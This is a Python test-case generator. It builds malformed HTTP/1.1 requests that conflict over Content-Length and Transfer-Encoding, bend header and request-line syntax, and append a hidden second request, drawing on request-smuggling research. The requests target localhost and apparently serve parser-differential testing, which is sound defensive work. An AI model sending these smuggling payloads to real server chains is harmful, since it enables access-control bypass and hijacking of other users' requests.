"""Heads that servers have read differently, each under an address of its own.

The ideas are those of the published work on request smuggling and of the tests of
llhttp; every case names its request `/odd-N`, and `/hidden-N` what it might hide.
"""

from collections.abc import Iterator
from itertools import product

HOST = "Host: localhost"
LENGTHS = [
    *("+1", "-1", "0x1", "1,1", "1, 2", "1 1", "", "1;", "001", "1.0", "1e0", "one"),
    *("99999999999999999999", "18446744073709551617", "1\x00", "\x0b1", "1\t", "\xb2"),
]
CODINGS = [
    *("chunked", "Chunked", "xchunked", "chunked, identity", "identity, chunked"),
    *("gzip, chunked", "chunked, chunked", "\tchunked", "chunked\x0b", '"chunked"'),
    *("chunked;q=1", "cow", "", "chunked,", ",chunked", "identity", "chunked\x00"),
]
SIZES = [
    *("0", "+0", "-0", "0x0", "00000000000000000", "0;ext=1", '0;ext="a', "0 ", " 0"),
    *("0;\x00", "g", "", "ffffffffffffffffff", "1;a=b\rc", "0;a\n", "\t0", "0,", "0_0"),
]
TRAILERS = [
    "Content-Length: 5",
    "Transfer-Encoding: chunked",
    "Host: evil",
    "X Y: 1",
    ":",
]
NAMES = [
    *(
        "Transfer-Encoding ",
        "Content-Length ",
        " Content-Length",
        "\tX",
        "X\x00Y",
        "X Y",
    ),
    *(
        "Content_Length",
        "X\x7f",
        "X\xff",
        "",
        "Transfer_Encoding",
        "Content-Length\x0b",
    ),
]
HOSTS = [
    *("", "a b", "a,b", "u@a", "\xff", "localhost\x00", "localhost:99999", "[::1", "/"),
    *("localhost/..", "localhost?", "localhost#", "localhost\t", "%6cocalhost", "a..b"),
]
LINES = [
    *("GET  {} HTTP/1.1", "GET\t{} HTTP/1.1", " GET {} HTTP/1.1", "GET {} HTTP/1.1 "),
    *("GET {} http/1.1", "GET {} HTTP/1.2", "GET {} HTTP/2.0", "GET {} HTTP/1.10"),
    *(
        "GET {} HTTP/0.9",
        "GET {}",
        "GET {} HTTP/1.1 x",
        "GET {} HTTP/1,1",
        "get {} HTTP/1.1",
    ),
    *(
        "GET http://localhost{} HTTP/1.1",
        "GET http://evil{} HTTP/1.1",
        "CONNECT {} HTTP/1.1",
    ),
    *("GET localhost:80{} HTTP/1.1", "GET //localhost{} HTTP/1.1", "GET \\{} HTTP/1.1"),
    *(
        "GET {}\x00 HTTP/1.1",
        "GET {}\xe9 HTTP/1.1",
        "GET {}%00 HTTP/1.1",
        "GET {}#a HTTP/1.1",
    ),
    *(
        "GET {}/../.. HTTP/1.1",
        "GET {}\x0b HTTP/1.1",
        "G\x00T {} HTTP/1.1",
        "GET {}%zz HTTP/1.1",
    ),
    *(
        "TRACE {} HTTP/1.1",
        "PRI {} HTTP/2.0",
        "A" * 40 + " {} HTTP/1.1",
        "\r\nGET {} HTTP/1.1",
    ),
    *("GET {}" + "a" * 9000 + " HTTP/1.1", "GET {}" + "a" * 70000 + " HTTP/1.1"),
]
FIELDS = [
    *(
        "X: a\r\n b",
        "X: a\r\n\tb",
        "Content-Length: 1\r\n 2",
        "X: a\nY: b",
        "X: a\rY: b",
    ),
    *(
        "X",
        "X:\x00",
        "X: \x7f",
        "Connection: Content-Length",
        "Connection: close, Host",
    ),
    *("Expect: 100-continue", "Expect: x", "Upgrade: h2c", "Upgrade: websocket"),
    *("X: " + "a" * 9000, "X: " + "a" * 70000, "\r\n".join(["X: a"] * 150)),
    *("Host: localhost", "Host: evil", "Proxy-Connection: keep-alive", "TE: trailers"),
    *(
        "HTTP2-Settings: AAMAAABkAAQAAP__",
        "X-Forwarded-For: 1.2.3.4\r\n evil",
        "Via: 1.1 x",
    ),
    *(
        "X-HTTP-Method-Override: DELETE",
        "X-Original-URL: /evil",
        "Trailer: Content-Length",
    ),
]


def cases() -> list[bytes]:
    """Give all cases, each as the bytes that a client sends."""
    return [
        text.replace("ODD", f"/odd-{number}-")
        .replace("HIDDEN", f"/hidden-{number}-")
        .encode("latin-1")
        for number, text in enumerate(_texts())
    ]


def _texts() -> Iterator[str]:
    hidden = f"GET HIDDEN HTTP/1.1\r\n{HOST}\r\n\r\n"
    length = f"Content-Length: {len(hidden)}"
    for method, given in product(("GET", "POST"), LENGTHS):
        yield _request(method, f"Content-Length: {given}") + "0" + hidden
    for given, also in product(CODINGS, (length, "X: y")):
        head = _request("POST", f"Transfer-Encoding: {given}", also)
        yield head + "0\r\n\r\n" + hidden
    for first, second in product(("0", length[16:]), repeat=2):
        fields = (f"Content-Length: {first}", f"Content-Length: {second}")
        yield _request("POST", *fields) + hidden
    chunked = "Transfer-Encoding: chunked"
    for size in SIZES:
        yield _request("POST", chunked) + f"{size}\r\n\r\n" + hidden
    for trailer in TRAILERS:
        yield _request("POST", chunked) + f"0\r\n{trailer}\r\n\r\n" + hidden
    yield _request("POST", chunked, version="1.0") + "0\r\n\r\n" + hidden
    yield _request("POST", chunked, chunked) + "0\r\n\r\n" + hidden
    for name in NAMES:
        yield _request("POST", f"{name}: {length[16:]}") + hidden
    for host in HOSTS:
        yield f"GET ODD HTTP/1.1\r\nHost: {host}\r\n\r\n{hidden}"
    for line in LINES:
        yield f"{line.format('ODD')}\r\n{HOST}\r\n\r\n{hidden}"
    for field in FIELDS:
        yield _request("GET", field) + hidden
    plain = _request("GET", "X: y")
    yield plain.replace("\r\n", "\n") + hidden
    yield plain.replace("\r\n", "\r") + hidden
    yield plain.replace("\r\n\r\n", "\r\n\n") + hidden
    yield plain.replace("\r\n", "\r\r\n") + hidden
    yield "GET ODD HTTP/1.1\r\n\r\n" + hidden
    yield "GET ODD HTTP/1.0\r\n\r\n" + hidden


def _request(method: str, *fields: str, version: str = "1.1") -> str:
    lines = (f"{method} ODD HTTP/{version}", HOST, *fields)
    return "\r\n".join(lines) + "\r\n\r\n"
